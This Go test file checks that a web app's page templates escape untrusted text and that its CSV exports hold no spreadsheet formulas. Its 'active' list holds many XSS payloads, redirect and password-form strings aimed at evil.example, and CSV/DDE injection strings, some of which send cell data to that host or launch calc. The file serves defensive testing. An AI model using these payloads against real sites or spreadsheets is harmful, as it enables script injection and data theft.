package views

import (
	"bytes"
	"encoding/csv"
	"flag"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/a-h/templ"
	"golang.org/x/net/html"

	"assay/research"
	"assay/research/engine"
)

var long = flag.Bool("long", false, "run the long forms of tests")

// everyPage returns every kind of page there is, by name, in which every text
// that a page, a model or a user may write is s.
func everyPage(t *testing.T, s string) map[string]templ.Component {
	t.Helper()
	pages := otherPages(s)
	pages["sign in"] = Login(LoginPage{Frame: Frame{Title: s, Path: s}, Next: s, Wrong: s})
	pages["similar"] = Similar([]RunCard{cardOf(s, research.Done)})
	for name, p := range fullPages(t, s) {
		pages["verify "+name] = Run(p)
	}
	for name, p := range workingPages(t, s) {
		pages["live "+name], pages["region of "+name] = Run(p), RunRegion(p)
	}
	for _, method := range toldMethods {
		tl := every(t, method, s)
		pages["report of "+method] = Run(tl.at(0))
		for i, p := range claimPagesOf(tl.state, s) {
			pages["claim of "+method+string(rune('1'+i))] = ClaimDoc(p)
		}
	}
	for i, p := range claimPages(t, s) {
		pages["claim "+string(rune('1'+i))] = ClaimDoc(p)
	}
	pages["snapshot"] = Snapshot(snapshotOf(t, s))
	params := fiveMethods("ledger", s)
	params.Methods[1].Params = []engine.Param{{Name: "n", Title: s, Hint: s, Max: 3}, {Name: "w", Title: s, Hint: s, Words: []string{s, "b" + s}}}
	params.Errors = []FieldError{{"param.ledger.n", s}, {"param." + s, s}}
	pages["parameters"] = Ask(params)
	return pages
}

// vocabulary adds to words what a page is made of: its elements, their
// attributes, their classes, the schemes of their links, and whatever is run.
func vocabulary(root *html.Node, words map[string]bool) {
	for n := range root.Descendants() {
		switch n.Type {
		case html.ElementNode:
			words["<"+n.Namespace+":"+n.Data+">"] = true
		case html.CommentNode, html.DoctypeNode:
			words["<!"+n.Data+">"] = true
		case html.TextNode:
			if n.Parent.Data == "script" || n.Parent.Data == "style" {
				words["<"+n.Parent.Data+">"+n.Data] = true
			}
		}
		for _, a := range n.Attr {
			words["<"+n.Data+" "+a.Namespace+":"+a.Key+">"] = true
			if runs(a.Key) {
				words["<"+n.Data+" "+a.Key+"="+a.Val+">"] = true
			}
			switch a.Key {
			case "class", "rel", "type", "method", "http-equiv", "target", "role":
				for w := range strings.FieldsSeq(a.Val) {
					words["<"+n.Data+" "+a.Key+"="+w+">"] = true
				}
			case "href", "src", "action", "formaction", printed:
				words["<"+n.Data+" "+a.Key+"="+kind(a.Val)+">"] = true
			}
		}
	}
}

// printed is the attribute with the address that stands beside a link on paper.
const printed = "data-print"

// runs reports whether what an attribute holds is run, or drawn by, rather than
// shown: all of it counts as markup.
func runs(attribute string) bool {
	return strings.HasPrefix(attribute, "data-") && attribute != printed || strings.HasPrefix(attribute, "on") || attribute == "style"
}

// kind returns of what kind a link is: the web's, a place on this server or on
// the page, or whatever else it begins with.
func kind(link string) string {
	for _, k := range []string{"http://", "https://"} {
		if strings.HasPrefix(link, k) {
			return "web"
		}
	}
	switch {
	case strings.HasPrefix(link, "/") && !strings.HasPrefix(link, "//") && !strings.HasPrefix(link, `/\`):
		return "here"
	case strings.HasPrefix(link, "#"):
		return "page"
	}
	before, _, _ := strings.Cut(link, ":")
	return before + ":"
}

// Whatever the text, a page is made of what it is made of when the text is
// harmless: no element, attribute, class or kind of link comes in by it.
func TestForeignTextAddsNothingToAnyPage(t *testing.T) {
	known := map[string]bool{}
	for _, s := range []string{"word", "two words", "", " ", "https://www.x.org/a", "http://x.org/", "https://x.org", "https://x.example/a", "library://books/a", "word\n\nword", "4", "2026-01-02", "none", "covered"} {
		for _, page := range everyPage(t, s) {
			vocabulary(drawn(t, page), known)
		}
	}
	strings := slices.Concat(active, hostile, everyOf(collected(t), 48))
	kinds, drawings := map[string]bool{}, 0
	for i, s := range strings {
		pages := everyPage(t, s)
		for j, name := range slices.Sorted(maps.Keys(pages)) {
			if kinds[name] = true; !*long && (i+j)%16 != 0 && i > 4 {
				continue // in the short form each string is on a sixteenth of the pages
			}
			found := map[string]bool{}
			root := drawn(t, pages[name])
			vocabulary(root, found)
			drawings++
			for w := range found {
				if !known[w] {
					t.Errorf("%s of %q: %s", name, s, w)
				}
			}
		}
	}
	t.Logf("%d strings, %d kinds of page, %d pages drawn: of %d words of markup none is foreign", len(strings), len(kinds), drawings, len(known))
	if n := foreignWhenRaw(t, strings, known); n < len(strings)/4 {
		t.Errorf("only %d strings would show if they were not escaped: the test has no teeth", n)
	}
}

// foreignWhenRaw returns how many strings would bring something onto a page if
// they stood there as they are.
func foreignWhenRaw(t *testing.T, all []string, known map[string]bool) (n int) {
	for _, s := range all {
		found := map[string]bool{}
		vocabulary(drawn(t, templ.Raw("<!doctype html><html lang=en><head></head><body><p>"+s+"</p><a href=\""+s+"\">x</a></body></html>")), found)
		for w := range found {
			if !known[w] {
				n++
				break
			}
		}
	}
	return n
}

// everyOf returns every nth string; in the long form all.
func everyOf(all []string, n int) (some []string) {
	if *long {
		return all
	}
	for i := 0; i < len(all); i += n {
		some = append(some, all[i])
	}
	return some
}

// active are strings of our own that would run in one place or another.
var active = []string{
	`" onmouseover="alert(1)" x="`, `' autofocus onfocus=alert(1) '`, "` onload=alert(1)", `"><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `</textarea><img src=x onerror=alert(1)>`,
	`</script><script>alert(1)</script>`, `--><svg onload=alert(1)>`, `]]><svg onload=alert(1)>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`,
	`<a href="javascript&colon;alert(1)">x</a>`, "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", `javascript://x.org/%0aalert(1)`, `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`,
	`https://x.org/" onclick="alert(1)`, `https://x.org/'><script>alert(1)</script>`, `https://x.org\@evil.example/`, `//evil.example/x`, `/\evil.example`, `https:evil.example`, `http:///x`, `blob:https://x.org/1`, `view-source:https://x.org/`,
	`<div data-on-load="alert(1)">`, `" data-on-load="alert(1)`, `" data-init="alert(1)`, `" data-on:click="alert(1)`, `<div data-signals="{x: alert(1)}">`, `')alert(1)//`, `',{x:alert(1)})//`, `\');alert(1)//`, `${alert(1)}`, `{{constructor.constructor('alert(1)')()}}`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`, `<base href="https://evil.example/">`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<style>@import 'https://evil.example/x.css'</style>`, `<form action=https://evil.example/><input name=password>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template shadowrootmode=open><slot onslotchange=alert(1)>`, `<x is=x onclick=alert(1)>`, `<img/src/onerror=alert(1)>`, `<!doctype html><html><body onload=alert(1)>`,
	"x\r\revent: datastar-patch-elements\rdata: elements <script>alert(1)</script>\r\r", "x\r\n\r\nevent: datastar-execute-script\r\ndata: script alert(1)\r\n\r\n", "x\u2028data: script alert(1)\u2029",
	"=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1", "＠x", "\"=1+1", "';=1+1", "x;=1+1", "x\t=1+1", "x\n=1+1", "%0A=1+1", "DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
}

// No cell of a table is a formula, of any method's report, however a
// spreadsheet separates cells.
func TestForeignTextIsNoFormula(t *testing.T) {
	cells := 0
	for _, s := range slices.Concat(active, hostile, everyOf(collected(t), 48)) {
		states := []*research.State{tale(t, s)}
		for _, method := range toldMethods {
			states = append(states, every(t, method, s).state)
		}
		for _, state := range states {
			raw := export(t, state, "csv")
			rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
			if err != nil {
				t.Fatalf("%s of %q: %v", state.Method, s, err)
			}
			for _, c := range slices.Concat(rows...) {
				cells++
				if formula(c) {
					t.Errorf("%s of %q: a cell is %q", state.Method, s, c)
				}
			}
			if n := bytes.Count(raw, []byte("\n")); n != len(rows) {
				t.Errorf("%s of %q: %d lines hold %d rows", state.Method, s, n, len(rows))
			}
		}
	}
	t.Logf("%d cells, none of them a formula", cells)
}

// formula reports whether a spreadsheet would calculate a cell.
func formula(cell string) bool {
	return cell != "" && (strings.ContainsAny(cell[:1], "=+-@\t\r\n") || strings.ContainsRune("＝＋－＠", []rune(cell)[0]))
}
